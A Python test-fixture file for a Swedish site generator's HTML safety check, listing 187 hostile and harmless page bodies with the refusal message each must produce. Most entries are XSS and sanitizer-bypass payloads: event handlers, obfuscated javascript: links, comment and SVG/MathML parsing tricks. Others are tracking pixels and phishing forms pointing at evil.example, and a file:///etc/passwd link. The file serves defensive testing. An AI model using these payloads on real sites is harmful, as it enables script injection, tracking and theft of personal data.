"""A hostile contributor's page bodies: HTML and Markdown written to get code, trackers or a phishing
form past the safety check (klarsida/safety.py), and harmless look-alikes it must let through.

Each case is the body of a page (below the front matter) as an editor would commit it. `refused`
is what the Swedish message must name (the construct: "<svg>", "attributet onerror på <img>",
"bilden från en annan webbplats (https://evil.example/p.gif)"), compared without case, and `line`
the line of the body it must point to; `refused=None` marks harmless markup that must pass, and
that the browser test shows in Chromium (tests/browser/test_hostile_html.py).

Written as an attacker who knows the HTML5 parsing algorithm (comments, bogus comments and CDATA,
raw-text and escapable raw-text elements, foreign content, the tokenizer's attribute rules) and
Python-Markdown with the site's extensions (attr_list, reference links, admonition titles, code
spans). `evil.example` stands for another host; `bilder/ok.png` for an image the site has.

Cases per class (tests/unit/test_hostile_html.py checks these figures):

    parsing        23 (5 accepted)
    comments       14 (4 accepted)
    raw-text       16 (2 accepted)
    foreign        12 (1 accepted)
    svg-animation  10 (1 accepted)
    other-host     28 (3 accepted)
    forms          10 (1 accepted)
    handlers       14 (1 accepted)
    schemes        30 (5 accepted)
    markdown       20 (7 accepted)
    layout         10 (1 accepted)
    total         187 (31 accepted)
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Case:
    kind: str
    body: str
    refused: str | None  # what the message names; None: harmless, must pass
    line: int = 1  # the body line the message points to (1 = the first line under the front matter)

    @property
    def accepted(self) -> bool:
        return self.refused is None


ONERROR = "attributet onerror på <img>"
JS_LINK = "länken börjar med javascript:"
OTHER_IMAGE = "bilden från en annan webbplats"


def _cases() -> list[Case]:
    c = Case
    return [
        # --- parsing: the tokenizer's and tree builder's rules ----------------------------------
        c("parsing", '<IMG SRC="bilder/ok.png" ALT="Logga" ONERROR="alert(1)">', ONERROR),
        # Markdown passes a block that starts with an HTML tag to the page as it is: the browser's
        # tokenizer reads it. (Inline, Markdown escapes a tag it cannot read: see the last cases.)
        c("parsing", '<div><img src="bilder/ok.png" alt="x"/onerror="alert(1)"></div>', ONERROR),
        c("parsing", '<div><img src=x onerror=alert(1)//</div>', ONERROR),
        c("parsing", '<div><a href="https://example.org/"onclick="alert(1)">Läs</a></div>', "attributet onclick på <a>"),
        c("parsing", '<img src="bilder/ok.png" alt="x" onerror  =  "alert(1)">', ONERROR),
        c("parsing", '<img src="bilder/ok.png" alt="x" oNeRrOr=alert(1)>', ONERROR),
        c("parsing", '<p <img src=x onerror=alert(1)>>Text</p>', "attributet onerror på <p>"),
        c("parsing", '<<script>alert(1)//<</script>', "<script>"),
        c("parsing", '<div><scr<script>ipt>alert(1)</script></div>', "<scr<script>"),
        c("parsing", 'Text <scr<script>ipt>alert(1)</script>', "<script>"),
        c("parsing", '<SCRIPT SRC=//evil.example/x.js></SCRIPT>', "<script>"),
        c("parsing", '<script/src="//evil.example/x.js"></script>', "<script>"),
        c("parsing", 'Text\n\n<script>alert(1)', "<script>", 3),
        c("parsing", '<a href="javascript:alert(1)">Öppen länk', JS_LINK),
        c("parsing", '<details ontoggle=alert(1) open>\n<summary>Mer</summary>', "attributet ontoggle på <details>"),
        c("parsing", '<div><img src="bilder/ok.png" alt="x" """ onerror=alert(1)></div>', ONERROR),
        c("parsing", '<div>\n<p>Text</p>\n<img\nsrc=x\nonerror=alert(1)>\n</div>', ONERROR, 5),
        c("parsing", '<abbr title="javascript:alert(1)">JS</abbr> är ett programspråk.', None),
        c("parsing", '<p title="</p><img src=x onerror=alert(1)>">Texten har en titel.</p>', None),
        c("parsing", '<DETAILS><SUMMARY>Mer om mötet</SUMMARY>Vi träffas i <B><I>Röda kvarn</B></I>.</DETAILS>', None),
        c("parsing", '<div><img src=x onerror=alert(1) alt="x" <!-- --></div>', ONERROR),
        c("parsing", 'Text <img src=x onerror=alert(1)//', None),
        c("parsing", 'Text <a href="https://example.org/"onclick="alert(1)">Läs</a>', None),

        # --- comments, bogus comments and CDATA -----------------------------------------------
        c("comments", '<!--><img src=x onerror=alert(1)>-->', ONERROR),
        c("comments", '<!---><img src=x onerror=alert(1)>-->', ONERROR),
        c("comments", '<!-- x --!><img src=x onerror=alert(1)> -->', ONERROR),
        c("comments", '<!--<!--><img src=x onerror=alert(1)>-->', ONERROR),
        c("comments", '<![CDATA[ ]]><img src=x onerror=alert(1)>', ONERROR),
        c("comments", '<? xml ?><img src=x onerror=alert(1)>', ONERROR),
        c("comments", '<!DOCTYPE html><img src=x onerror=alert(1)>', ONERROR),
        c("comments", '<div><!-- <a href="--><img src=x onerror=alert(1)>"> --></div>', ONERROR),
        c("comments", '<a title="<!--" href="#">x</a><img src=x onerror=alert(1) title="-->">', ONERROR),
        c("comments", '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>', "<svg>"),
        c("comments", '<!-- <script>alert(1)</script> -->\nEn anteckning för redaktörerna.', None),
        c("comments", '<div><![CDATA[<img src=x onerror=alert(1)>]]></div>', None),
        c("comments", '<div></ img src=x onerror=alert(1)></div>', None),
        c("comments", '<!--[if gte IE 4]><SCRIPT>alert(1)</SCRIPT><![endif]-->', None),

        # --- raw-text and escapable raw-text elements ------------------------------------------
        c("raw-text", '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>', "<noscript>"),
        c("raw-text", '<noscript><img src="https://evil.example/p.gif"></noscript>', "<noscript>"),
        c("raw-text", '<title><img src=x onerror=alert(1)></title>', "<title>"),
        c("raw-text", '<textarea><img src=x onerror=alert(1)></textarea>', "<textarea>"),
        c("raw-text", '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>', "<xmp>"),
        c("raw-text", '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>', "<noembed>"),
        c("raw-text", '<noframes><img title="</noframes><img src=x onerror=alert(1)>"></noframes>', "<noframes>"),
        c("raw-text", '<iframe><img title="</iframe><img src=x onerror=alert(1)>"></iframe>', "<iframe>"),
        c("raw-text", '<style><img src=x onerror=alert(1)></style>', "<style>"),
        c("raw-text", '<plaintext><script>alert(1)</script>', "<plaintext>"),
        c("raw-text", '<template><img src=x onerror=alert(1)></template>', "<template>"),
        c("raw-text", '<listing><img src=x onerror=alert(1)></listing>', "<listing>"),
        c("raw-text", '<xmp></xmp><img src=x onerror=alert(1)>', ONERROR),
        c("raw-text", '<textarea></textarea><svg onload=alert(1)>', "<svg>"),
        c("raw-text", 'Så ser ett skript ut: `<script>alert(1)</script>`.', None),
        c("raw-text", 'Kodblock:\n\n    <iframe src="https://evil.example/"></iframe>\n    <img src=x onerror=alert(1)>', None),

        # --- foreign content: SVG and MathML ---------------------------------------------------
        c("foreign", '<svg/onload=alert(1)>', "<svg>"),
        c("foreign", '<svg><script>alert(1)</script></svg>', "<svg>"),
        c("foreign", '<svg><style><img src=x onerror=alert(1)></style></svg>', ONERROR),
        c("foreign", '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">', "<svg>"),
        c("foreign", '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>', "<math>"),
        c("foreign", '<math><style><img src=x onerror=alert(1)></style></math>', ONERROR),
        c("foreign", '<svg><foreignObject><img src=x onerror=alert(1)></foreignObject></svg>', "<svg>"),
        c("foreign", '<math href="javascript:alert(1)">KLICKA</math>', "<math>"),
        c("foreign", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">Klicka</text></a></svg>', "<svg>"),
        c("foreign", '<svg><image href="https://evil.example/p.gif"/></svg>', "<svg>"),
        c("foreign", '<SVG ONLOAD=alert(1)>', "<svg>"),
        c("foreign", 'Ikonen ritas med `<svg viewBox="0 0 24 24">`.', None),

        # --- SVG animation: a link's href set to javascript: -----------------------------------
        c("svg-animation", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>', "<svg>"),
        c("svg-animation", '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text y="20">x</text></a></svg>', "<svg>"),
        c("svg-animation", '<svg><animate xlink:href="#x" attributeName="href" from="javascript:alert(1)" to="1"/></svg>', "<svg>"),
        c("svg-animation", '<svg><set onbegin="alert(1)" attributeName="x" to="1"/></svg>', "<svg>"),
        c("svg-animation", '<svg><animateTransform onend="alert(1)" attributeName="transform" dur="1s"/></svg>', "<svg>"),
        c("svg-animation", '<set attributeName="href" to="javascript:alert(1)"><img src=x onerror=alert(1)></set>', "<set>"),
        c("svg-animation", '<a href="#"><animate attributeName="href" values="javascript:alert(1)">Klicka</animate></a>', "<animate>"),
        c("svg-animation", '<text><img src=x onerror=alert(1)></text>', "<text>"),
        c("svg-animation", '<p>Text</p>\n\n<filter><img src=x onerror=alert(1)></filter>', "<filter>", 3),
        c("svg-animation", 'I SVG kan `<set attributeName="href">` ändra en länk.', None),

        # --- resources from another host (tracking, fonts, styles, frames) -----------------------
        c("other-host", '![Pixel](https://evil.example/pixel.gif)', f"{OTHER_IMAGE} (https://evil.example/pixel.gif)"),
        c("other-host", '<img src="https://evil.example/p.gif" alt="">', f"{OTHER_IMAGE} (https://evil.example/p.gif)"),
        c("other-host", '<img src="//evil.example/p.gif" alt="Logga">', f"{OTHER_IMAGE} (//evil.example/p.gif)"),
        c("other-host", '<img src="\\\\evil.example\\p.gif" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src="/\\evil.example/p.gif" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src=" https://evil.example/p.gif" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src="HTTPS://EVIL.EXAMPLE/P.GIF" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src="https:evil.example/p.gif" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src="&#104;ttps://evil.example/p.gif" alt="Logga">', OTHER_IMAGE),
        c("other-host", '<img src="bilder/ok.png" srcset="https://evil.example/p.gif 2x" alt="Logga">', "attributet srcset på <img>"),
        c("other-host", '<img src="bilder/ok.png" alt="Logga" lowsrc="https://evil.example/p.gif">', "attributet lowsrc på <img>"),
        c("other-host", '<picture><source srcset="https://evil.example/p.gif"><img src="bilder/ok.png" alt="Logga"></picture>', "<picture>"),
        c("other-host", '<style>@import url(https://evil.example/x.css);</style>', "<style>"),
        c("other-host", '<link rel="stylesheet" href="https://evil.example/x.css">', "<link>"),
        c("other-host", '<link rel="preload" href="https://evil.example/font.woff2" as="font" crossorigin>', "<link>"),
        c("other-host", '<div style="background:url(https://evil.example/p.gif)">Text</div>', "attributet style på <div>"),
        c("other-host", '<span style="font-family: Spion; src: url(//evil.example/f.woff)">Text</span>', "attributet style på <span>"),
        c("other-host", '<table background="https://evil.example/p.gif"><tr><td>1</td></tr></table>', "attributet background på <table>"),
        c("other-host", '<video poster="https://evil.example/p.gif"></video>', "<video>"),
        c("other-host", '<audio src="https://evil.example/a.mp3" autoplay></audio>', "<audio>"),
        c("other-host", '<iframe src="https://evil.example/"></iframe>', "<iframe>"),
        c("other-host", '<object data="https://evil.example/x.swf"></object>', "<object>"),
        c("other-host", '<embed src="https://evil.example/x.swf">', "<embed>"),
        c("other-host", '<meta http-equiv="refresh" content="0;url=https://evil.example/">', "<meta>"),
        c("other-host", '<base href="https://evil.example/">', "<base>"),
        c("other-host", '![Logga](bilder/ok.png)\n\n<img src="bilder/ok.png" alt="Logga">', None),
        c("other-host", 'Läs mer hos [Filminstitutet](https://www.filminstitutet.se/).', None),
        c("other-host", 'Vår sida på <a href="//example.org/klarsida/">en annan adress</a>.', None),

        # --- forms: phishing for personal identity numbers -------------------------------------
        c("forms", '<form action="https://evil.example/samla">\n<label>Personnummer <input name="pnr"></label>\n'
                   '<button>Skicka</button>\n</form>', "<form>"),
        c("forms", '<form action="https://evil.example/"><button>Skicka</button></form>', "<form>"),
        c("forms", '<button formaction="https://evil.example/">Skicka</button>', "<button>"),
        c("forms", '<input name="personnummer" placeholder="Personnummer (ÅÅÅÅMMDD-NNNN)">', "<input>"),
        c("forms", '<input type="image" src="https://evil.example/p.gif">', "<input>"),
        c("forms", '<select name="kommun"><option>Helsingborg</option></select>', "<select>"),
        c("forms", '<isindex action="https://evil.example/" prompt="Personnummer">', "<isindex>"),
        c("forms", '<fieldset><legend>Dina uppgifter</legend></fieldset>', "<fieldset>"),
        c("forms", 'Text\n\n<label for="pnr">Personnummer</label>', "<label>", 3),
        c("forms", 'Anmäl dig i [kommunens e-tjänst](https://helsingborg.se/). Där skriver du ditt personnummer.', None),

        # --- event handler attributes ----------------------------------------------------------
        c("handlers", '<div onclick="alert(1)">Klicka</div>', "attributet onclick på <div>"),
        c("handlers", '<details open ontoggle="alert(1)"><summary>Mer</summary>Text</details>', "attributet ontoggle på <details>"),
        c("handlers", '<p onpointerenter=alert(1)>Text</p>', "attributet onpointerenter på <p>"),
        c("handlers", '<img src="bilder/ok.png" alt="Logga" onload="alert(1)">', "attributet onload på <img>"),
        c("handlers", '<a href="#" onfocus="alert(1)" autofocus>x</a>', "attributet onfocus på <a>"),
        c("handlers", '<span class="ruta" onanimationstart=alert(1)>Text</span>', "attributet onanimationstart på <span>"),
        c("handlers", '<details><summary onclick="alert(1)">Mer</summary>Text</details>', "attributet onclick på <summary>"),
        c("handlers", '| A | B |\n|---|---|\n| <b onmouseover="alert(1)">1</b> | 2 |', "attributet onmouseover på <b>", 3),
        c("handlers", 'Text\n{: onclick="alert(1)" }', "attributet onclick på <p>", 2),
        c("handlers", '## Rubrik {: onmouseover="alert(1)" }', "attributet onmouseover på <h2>"),
        c("handlers", '![Logga](bilder/ok.png){: onerror="alert(1)" }', ONERROR),
        c("handlers", '<img src="bilder/ok.png" alt="Logga" &#111;nerror="alert(1)">', "på <img>"),
        c("handlers", '<time datetime="2018-06-14" onmouseenter="alert(1)">14 juni</time>', "attributet onmouseenter på <time>"),
        c("handlers", 'Attributet `onclick="alert(1)"` kör kod, så vi använder det inte.', None),

        # --- schemes: javascript:, vbscript:, data: and friends, however they are spelled ---------
        c("schemes", '[Klicka här](javascript:alert(1))', JS_LINK),
        c("schemes", '[Klicka här](JAVASCRIPT:alert(1))', JS_LINK),
        c("schemes", '<a href=" javascript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="&#x20;javascript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="java&#x09;script:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="java&#x0A;script:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="java&#x0D;script:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="&#x01;javascript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="JaVa&#115;cript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="&#0000106avascript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="javascript&colon;alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href="jav&Tab;ascript:alert(1)">x</a>', JS_LINK),
        c("schemes", '<a href=javascript:alert(1)>x</a>', JS_LINK),
        c("schemes", "<a href='javascript:alert(1)'>x</a>", JS_LINK),
        c("schemes", '[x](<javascript:alert(1)>)', JS_LINK),
        c("schemes", '[x](javascript://%0Aalert(1))', JS_LINK),
        c("schemes", '<a href="vbscript:msgbox(1)">x</a>', "länken börjar med vbscript:"),
        c("schemes", '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>', "länken börjar med data:"),
        c("schemes", '[x](data:text/html,<script>alert(1)</script>)', "länken börjar med data:"),
        c("schemes", '<a href="file:///etc/passwd">x</a>', "länken börjar med file:"),
        c("schemes", '<a href="livescript:alert(1)">x</a>', "länken börjar med livescript:"),
        c("schemes", '<javascript:alert(1)>', "<javascript:alert(1)>"),
        c("schemes", '<div><a href="https://example.org/">ok</a> <a href="java&NewLine;script:alert(1)">x</a></div>', JS_LINK),
        c("schemes", 'Skriv inte [javascript:alert(1)](https://example.org/) i en länk.', None),
        c("schemes", '[Ring oss](tel:+4642100000) eller [mejla](mailto:info@example.org).', None),
        c("schemes", '<a href="https://example.org/?q=javascript:alert(1)">Sök</a>', None),
        c("schemes", 'Se [kontaktsidan](contact.md) eller <info@example.org>.', None),
        c("schemes", '<a href="HTTPS://EXAMPLE.ORG/">Versaler i adressen</a>', None),

        # --- Markdown: attr_list, reference links, admonitions, HTML blocks ----------------------
        c("markdown", 'Läs [här][1].\n\n[1]: javascript:alert(1)', JS_LINK, 3),
        c("markdown", 'Läs [här][x].\n\n[x]: <javascript:alert(1)> "Titel"', JS_LINK, 3),
        c("markdown", 'Läs [här][x].\n\n[x]: JaVaScRiPt:alert(1)', JS_LINK, 3),
        c("markdown", '[Ja](https://example.org/){: href="javascript:alert(1)" }', JS_LINK),
        c("markdown", 'Text\n{: style="background:url(//evil.example/p.gif)" }', "attributet style på <p>", 2),
        c("markdown", '![Logga](bilder/ok.png){: src="https://evil.example/p.gif" }', OTHER_IMAGE),
        c("markdown", '![Pixel][p]\n\n[p]: https://evil.example/p.gif', OTHER_IMAGE, 3),
        c("markdown", '<div markdown="1">\n[x](javascript:alert(1))\n</div>', "attributet markdown på <div>"),
        c("markdown", '!!! note "<img src=x onerror=alert(1)>"\n    Text', ONERROR),
        c("markdown", 'Ord\n:   <script>alert(1)</script>', "<script>", 2),
        c("markdown", '## <span onclick="alert(1)">Rubrik</span>', "attributet onclick på <span>"),
        c("markdown", '[<img src=x onerror=alert(1)>](https://example.org/)', ONERROR),
        c("markdown", '<span>[x](javascript:alert(1))</span>', JS_LINK),
        c("markdown", '[x](https://example.org/ "\\"><img src=x onerror=alert(1)>")', None),
        c("markdown", '![" onerror="alert(1)](bilder/ok.png)', None),
        c("markdown", '| Dag | Tid |\n|:----|----:|\n| Torsdag | 18.00 |', None),
        c("markdown", '!!! note "Bra att veta"\n    Vi bjuder på fika.', None),
        c("markdown", 'Ord\n:   En förklaring av ordet.', None),
        c("markdown", 'Ett stycke på engelska.\n{: .ruta #engelska lang="en" }', None),
        c("markdown", '<div>\n\n[x](javascript:alert(1))\n\n</div>', None),

        # --- layout: the page around the text ----------------------------------------------------
        c("layout", '<p>Text</p></div></div></div>\n<div class="ruta">Logga in här</div>', "</div>"),
        c("layout", '<div>Öppen ruta\n\nText\n\n</div></div>\n<p>Utanför</p>', "</div>", 5),
        c("layout", '</article><p>Utanför artikeln</p>', "</article>"),
        c("layout", '<p>Text</p></div><div class="ruta">En ruta som tar sidans plats', "</div>"),
        c("layout", '<!-- En anteckning -->\n<p>Text</p></div>\n<p>Utanför</p>', "</div>", 2),
        c("layout", '<body onload="alert(1)">', "<body>"),
        c("layout", '<html onmouseover="alert(1)">', "<html>"),
        c("layout", '<a href="https://example.org/" style="position:fixed;top:0;left:0;width:100%;height:100%">Logga in</a>',
          "attributet style på <a>"),
        c("layout", '<dialog open>Din session har gått ut. Logga in igen.</dialog>', "<dialog>"),
        c("layout", '<div class="ruta">\n\nEn ruta med en **viktig** text.\n\n</div>', None),
    ]


CASES: tuple[Case, ...] = tuple(_cases())
KINDS: tuple[str, ...] = tuple(dict.fromkeys(case.kind for case in CASES))
